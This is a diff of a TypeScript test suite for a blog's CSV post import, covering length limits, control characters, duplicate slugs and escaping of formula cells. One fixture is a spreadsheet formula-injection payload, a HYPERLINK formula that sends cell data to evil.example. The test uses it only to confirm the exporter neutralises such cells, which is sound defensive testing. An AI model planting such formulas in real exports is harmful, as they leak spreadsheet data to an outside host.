@@ -20,8 +20,10 @@ import {
   splitList,
   summarizeImport,
   validateImportRow,
+  validateImportRows,
   type ScrapedPost,
 } from "./post-import.ts";
+import { POST_LIMITS } from "./post-schemas.ts";
 
 const now = new Date("2025-06-01T12:00:00Z");
 const options = { now, agentName: site.agent.name };
@@ -218,8 +220,8 @@ describe("checkImportColumns", () => {
 });
 
 describe("splitList", () => {
-  it("keeps order and exact repeats out", () => {
-    expect(splitList("b, a, b, A")).toEqual(["b", "a", "A"]);
+  it("keeps order and drops repeats ignoring case, as the editor does", () => {
+    expect(splitList("b, a, b, A")).toEqual(["b", "a"]);
     expect(splitList(" , ")).toEqual([]);
   });
 });
@@ -309,5 +311,136 @@ describe("CSV files", () => {
       content: post.content_html,
     });
     expect(rows[1]?.featured).toBe("false");
+  });
+});
+
+describe("the editor's rules in the import (issue 13)", () => {
+  const long = (n: number) => "a".repeat(n);
+  const chips = (n: number) => Array.from({ length: n }, (_, i) => `Chip ${i}`).join(", ");
+
+  it("refuses every value the editor would refuse for its length, naming the field", () => {
+    const cases: Array<[Record<string, string>, string]> = [
+      [{ title: long(POST_LIMITS.title + 1) }, `Title must be at most ${POST_LIMITS.title} characters`],
+      [{ slug: long(POST_LIMITS.slug + 1) }, `Slug must be at most ${POST_LIMITS.slug} characters`],
+      [{ excerpt: long(POST_LIMITS.excerpt + 1) }, `Excerpt must be at most ${POST_LIMITS.excerpt} characters`],
+      [{ author_name: long(POST_LIMITS.authorName + 1) }, `Author name must be at most ${POST_LIMITS.authorName} characters`],
+      [{ seo_title: long(POST_LIMITS.seoTitle + 1) }, `SEO title must be at most ${POST_LIMITS.seoTitle} characters`],
+      [{ seo_description: long(POST_LIMITS.seoDescription + 1) }, `SEO description must be at most ${POST_LIMITS.seoDescription} characters`],
+      [{ categories: chips(POST_LIMITS.chips + 1) }, `At most ${POST_LIMITS.chips} categories`],
+      [{ tags: chips(POST_LIMITS.chips + 1) }, `At most ${POST_LIMITS.chips} tags`],
+      [{ categories: long(POST_LIMITS.chip + 1) }, `Each category must be at most ${POST_LIMITS.chip} characters`],
+      [{ tags: `ok, ${long(POST_LIMITS.chip + 1)}` }, `Each tag must be at most ${POST_LIMITS.chip} characters`],
+      [{ content_html: `<p>${long(POST_LIMITS.content)}</p>` }, `Content must be at most ${POST_LIMITS.content} characters`],
+    ];
+    for (const [cells, message] of cases) {
+      const row = validate(cells);
+      expect(row.errors, message).toEqual([message]);
+      expect(importRowStatus(row)).toBe("errors");
+    }
+  });
+
+  it("accepts every field at its limit", () => {
+    const row = validate({
+      title: long(POST_LIMITS.title),
+      slug: long(POST_LIMITS.slug),
+      excerpt: long(POST_LIMITS.excerpt),
+      author_name: long(POST_LIMITS.authorName),
+      seo_title: long(POST_LIMITS.seoTitle),
+      seo_description: long(POST_LIMITS.seoDescription),
+      categories: chips(POST_LIMITS.chips),
+      tags: `${long(POST_LIMITS.chip)}, ${chips(POST_LIMITS.chips - 1)}`,
+      content_html: long(POST_LIMITS.content),
+    });
+    expect(row.errors).toEqual([]);
+  });
+
+  it("refuses control characters in one-line fields and NUL in the content, naming the field", () => {
+    const cases: Array<[Record<string, string>, string]> = [
+      [{ title: "Dock\u0001Permits" }, "Title: Remove the invisible control characters"],
+      [{ title: "Two\nlines" }, "Title: Remove the invisible control characters"],
+      [{ author_name: "Meredith\u0001Vance" }, "Author name: Remove the invisible control characters"],
+      [{ seo_title: "Seo\u202Etitle" }, "SEO title: Remove the invisible control characters"],
+      [{ categories: "Boating\u0007" }, "Categories: Remove the invisible control characters"],
+      [{ tags: "ok, bad\u0000tag" }, "Tags: Remove the invisible control characters"],
+      [{ excerpt: "Nul\u0000byte" }, "Excerpt: Remove the invisible control characters"],
+      [{ content_html: "<p>Nul\u0000byte</p>" }, "Content: Remove the invisible control characters"],
+    ];
+    for (const [cells, message] of cases) expect(validate(cells).errors, message).toEqual([message]);
+    // Multi-line fields keep their line breaks and tabs.
+    expect(validate({ excerpt: "One\nTwo", seo_description: "One\r\nTwo", content_html: "<p>a</p>\n\t<p>b</p>" }).errors).toEqual([]);
+  });
+
+  it("leaves out addresses the editor would refuse, with the warning", () => {
+    for (const url of ["https://example.com/a b.jpg", `https://example.com/${long(POST_LIMITS.url)}`, "\u0001https://example.com/x.jpg"]) {
+      const row = validate({ hero_image_url: url, canonical_url: url });
+      expect(row.errors, url).toEqual([]);
+      expect(row.data.heroImageUrl, url).toBeNull();
+      expect(row.data.canonicalUrl, url).toBeNull();
+      expect(row.warnings).toHaveLength(2);
+    }
+  });
+});
+
+describe("validateImportRows: what only the whole file shows", () => {
+  const rows = (...list: Array<Record<string, string>>) =>
+    list.map((cells, index) => ({ rowNumber: index + 1, cells: { title: `Post ${index + 1}`, ...cells } }));
+
+  it("flags every later row whose slug an earlier valid row has, also when the cells differ but slugify alike", () => {
+    const result = validateImportRows(rows({ slug: "twin" }, { slug: "other" }, { slug: "Twin" }, { slug: "twin" }), options);
+    expect(result.map((row) => row.errors)).toEqual([
+      [],
+      [],
+      ['Row 1 of this file has the same slug "twin"; only that row can be imported'],
+      ['Row 1 of this file has the same slug "twin"; only that row can be imported'],
+    ]);
+  });
+
+  it("lets a row take a slug whose earlier row has errors and will not be imported", () => {
+    const result = validateImportRows(rows({ slug: "twin", title: "" }, { slug: "twin" }), options);
+    expect(result.map((row) => row.errors)).toEqual([[IMPORT_MESSAGES.titleRequired], []]);
+  });
+
+  it("warns about cells beyond the header's columns", () => {
+    const [one, two, none] = validateImportRows(
+      [
+        { rowNumber: 1, cells: { title: "A", slug: "a" }, extraCells: 1 },
+        { rowNumber: 2, cells: { title: "B", slug: "b" }, extraCells: 3 },
+        { rowNumber: 3, cells: { title: "C", slug: "c" }, extraCells: 0 },
+      ],
+      options,
+    );
+    expect(one?.warnings).toEqual(["1 cell beyond the header's columns will be ignored"]);
+    expect(two?.warnings).toEqual(["3 cells beyond the header's columns will be ignored"]);
+    expect(none?.warnings).toEqual([]);
+  });
+});
+
+describe("CSV files the site writes (issue 13: formulas)", () => {
+  it("scraped-posts.csv neutralises formula cells and the import reads the original text back", () => {
+    const post: ScrapedPost = {
+      ...IMPORT_TEMPLATE_SAMPLE,
+      title: '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+      slug: "hostile",
+      excerpt: "+1 for lake life",
+      author_name: "@meredith",
+      categories: ["-Boating"],
+      tags: ["'quoted"],
+      seo_title: "'Tis the season",
+    };
+    const csv = scrapedPostsToCsv([post]);
+    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")"`);
+    expect(csv).toContain(",'+1 for lake life,");
+    expect(csv).toContain(",'@meredith,");
+    expect(csv).toContain(",'-Boating,");
+    const row = validateImportRow(parseCsv(csv).rows[0] ?? {}, 1, options);
+    expect(row.errors).toEqual([]);
+    expect(row.data).toMatchObject({
+      title: post.title,
+      excerpt: post.excerpt,
+      authorName: post.author_name,
+      categories: post.categories,
+      tags: post.tags,
+      seoTitle: post.seo_title,
+    });
   });
 });
